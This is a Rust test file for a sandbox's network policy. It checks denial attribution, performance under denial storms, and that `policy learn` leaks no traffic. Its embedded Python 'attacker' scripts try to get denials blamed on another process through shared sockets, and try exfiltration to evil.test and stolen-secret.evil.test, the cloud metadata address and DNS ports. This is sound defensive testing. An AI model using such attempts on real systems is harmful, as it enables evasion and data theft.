//! Attribution of denials, and `policy learn` as a way out: a process that shares no socket with the refused one must
//! never be named, and learning must not open the network.

use crate::network_world::{WAYS, internet, lines, seen};
use crate::support::world::{PUBLIC, World};
use crate::support::{As, BOTH, Run, binary, to_the_end};
use serde_json::json;

/// Holds sockets that an attacker would like to be confused with: a connection from port 5002 and a shared datagram
/// socket on port 5000. With an argument it is refused itself, as the control.
const VICTIM: &str = r#"
#include <arpa/inet.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>
static struct sockaddr_in at(const char *host, int port) {
    struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons(port)};
    inet_pton(AF_INET, host, &a.sin_addr);
    return a;
}
int main(int argc, char **argv) {
    int one = 1, udp = socket(AF_INET, SOCK_DGRAM, 0), tcp = socket(AF_INET, SOCK_STREAM, 0);
    struct sockaddr_in any = at("0.0.0.0", 5000), from = at("0.0.0.0", 5002), to = at("5.5.5.5", 7000);
    if (argc > 1) {
        struct sockaddr_in no = at("5.5.5.5", 6000);
        char byte;
        connect(udp, (void *)&no, sizeof no);
        send(udp, "x", 1, 0);
        recv(udp, &byte, 1, 0);
        return 0;
    }
    setsockopt(udp, SOL_SOCKET, SO_REUSEADDR, &one, sizeof one);
    setsockopt(udp, SOL_SOCKET, SO_REUSEPORT, &one, sizeof one);
    setsockopt(tcp, SOL_SOCKET, SO_REUSEADDR, &one, sizeof one);
    if (bind(udp, (void *)&any, sizeof any) || bind(tcp, (void *)&from, sizeof from)
        || connect(tcp, (void *)&to, sizeof to)) { perror("victim"); return 1; }
    puts("ready");
    fflush(stdout);
    pause();
}
"#;

/// Gets refused from the same ports in every way: beside the victim's sockets, from a chosen source address, with the
/// socket hidden from every descriptor table, and as a connection to another host.
const ATTACKER: &str = r#"
import array, socket, subprocess, sys
subprocess.run([sys.argv[1], "control"], check=True)
victim = subprocess.Popen([sys.argv[1]], stdout=subprocess.PIPE)
assert victim.stdout.readline() == b"ready\n", "control"
def datagrams(family=socket.AF_INET, at=""):
    s = socket.socket(family, socket.SOCK_DGRAM)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
    s.bind((at, 5000))
    s.settimeout(2)
    return s
def refused(s):
    try: s.recv(1)
    except OSError: pass
left, right = socket.socketpair()
for port, s, host in ((6001, datagrams(), "5.5.5.5"), (6002, datagrams(at="5.5.5.5"), "5.5.5.5"),
                      (6003, datagrams(socket.AF_INET6), "::ffff:5.5.5.5")):
    s.connect((host, port)); s.send(b"x"); refused(s); s.close()
s = datagrams(); s.connect(("5.5.5.5", 6004)); s.send(b"x")
left.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [s.fileno()]))]); s.close()
s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1); s.bind(("0.0.0.0", 5002))
s.settimeout(5)
try: s.connect(("5.5.5.5", 6005)); s.recv(1)
except OSError: pass
# A denial of the attacker's own, recorded after all of the above.
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(5); s.connect(("5.5.5.5", 6006)); s.send(b"x"); refused(s)
victim.kill()
"#;

fn blamed(run: &Run, port: u16) -> String {
    let denials = run.outcome["denials"].as_array().cloned().unwrap_or_default();
    let found = denials.iter().find(|d| d["target"].as_str().is_some_and(|t| t.ends_with(&format!(":{port}"))));
    found.unwrap_or_else(|| panic!("{port}: {}", run.story()))["exe"].as_str().unwrap().to_owned()
}

fn world(who: As) -> World {
    World::new(who).host(PUBLIC, "good.test").server("greet", PUBLIC, 7000)
}

/// Denials caused through another process's ports are not attributed to that process.
// promise 9
#[test]
fn nobody_is_blamed_for_anothers_sockets() {
    for who in BOTH {
        let world = world(who);
        let victim = world.place.c_program("victim", VICTIM);
        let policy = world.place.policy(json!({"version": 1, "extends": ["default"],
            "net": {"rules": [{"action": "allow", "cidr": "5.5.5.5/32", "ports": "7000"}]}}));
        let run = world.run(&["-p", &policy], &["/usr/bin/python3", "-c", ATTACKER, victim.to_str().unwrap()]);
        run.assert_ok();
        let victim = victim.to_str().unwrap();
        assert_eq!(blamed(&run, 6000), victim, "control: {}", run.story());
        for port in [6001, 6002, 6003, 6004] {
            assert_ne!(blamed(&run, port), victim, "{who:?} {port}: {}", run.story());
        }
        for port in [6005, 6006] {
            assert!(blamed(&run, port).starts_with("/usr/bin/python3"), "{who:?} {port}: {}", run.story());
        }
    }
}

/// A guest with constant denials, many descriptors and lingering sockets does not delay allowed connections or its own
/// end.
// promise 9
#[test]
fn looking_for_the_refused_holds_nobody_up() {
    const TEXT: &str = r#"
import resource, socket, struct, threading, time
resource.setrlimit(resource.RLIMIT_NOFILE, (1000, 1000))
held = [socket.socket() for _ in range(900)]
over = False
def storm():
    while not over:
        s = socket.socket()
        s.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 100000))
        try: s.connect(("5.5.5.5", 7000)); s.send(b"x" * 1000); s.close()
        except OSError: pass
        s = socket.socket()
        try: s.connect(("5.5.5.5", 6000)); s.recv(1)
        except OSError: pass
        s.close()
threads = [threading.Thread(target=storm) for _ in range(4)]
for t in threads: t.start()
for _ in range(50):
    s = socket.create_connection(("5.5.5.5", 7000), 20)
    assert s.recv(4) == b"220 "
    s.close()
over = True
for t in threads: t.join()
print("done")
"#;
    for who in BOTH {
        let world = world(who);
        let policy = world.place.policy(json!({"version": 1, "extends": ["default"],
            "net": {"rules": [{"action": "allow", "cidr": "5.5.5.5/32", "ports": "7000"}]}}));
        let run = world.python(&["-p", &policy], TEXT);
        run.assert_ok();
        assert_eq!(run.stdout(), "done\n", "{who:?}: {}", run.story());
        run.assert_denied("net.connect", "5.5.5.5:6000");
    }
}

/// `policy learn` without grants sends nothing out by name, address, datagram or DNS query; with a grant for one host,
/// only to that host. The test network's log decides.
// promise 9
#[test]
fn a_lesson_lets_out_only_what_was_named() {
    const TEXT: &str = r#"
import os
for way in EVERY:
    for host in ("good.test", "evil.test", "8.8.8.8", "169.254.169.254", "stolen-secret.evil.test"):
        try: way(host, 80)
        except (OSError, UnicodeError, ValueError): pass
s = socket.socket(type=socket.SOCK_DGRAM)
for host in ("8.8.8.8", "evil.test"):
    for port in (53, 123, 443):
        try: s.sendto(b"stolen", (host, port))
        except OSError: pass
"#;
    for who in BOTH {
        let world = internet(who);
        let file = world.place.file("home/project/attack.py", format!("{WAYS}\n{TEXT}"));
        let learn = |flags: &[&str]| {
            let head = ["policy", "learn", "-o", "learned.json"];
            let args = [&head[..], flags, &["--", "/usr/bin/python3", file.to_str().unwrap()]].concat();
            let output = to_the_end(&mut world.command(binary().to_str().unwrap(), &args), b"");
            assert!(output.status.success(), "{who:?}: {output:?}");
        };
        learn(&[]);
        assert_eq!(seen(&world), "", "{who:?}");
        let learned = std::fs::read_to_string(world.place.project.join("learned.json")).unwrap();
        assert!(learned.contains(r#""host": "evil.test""#), "control: it was tried: {learned}");
        learn(&["--net", "good.test"]);
        let reached = lines(&world, "tcp");
        assert_eq!(reached, ["tcp 5.5.5.5 80"], "{who:?}: the control, and nothing else");
        let asked = lines(&world, "dns");
        assert!(!asked.is_empty() && asked.iter().all(|line| line.contains("good.test")), "{who:?}: {asked:?}");
        assert_eq!(lines(&world, "udp"), Vec::<String>::new(), "{who:?}");
    }
}
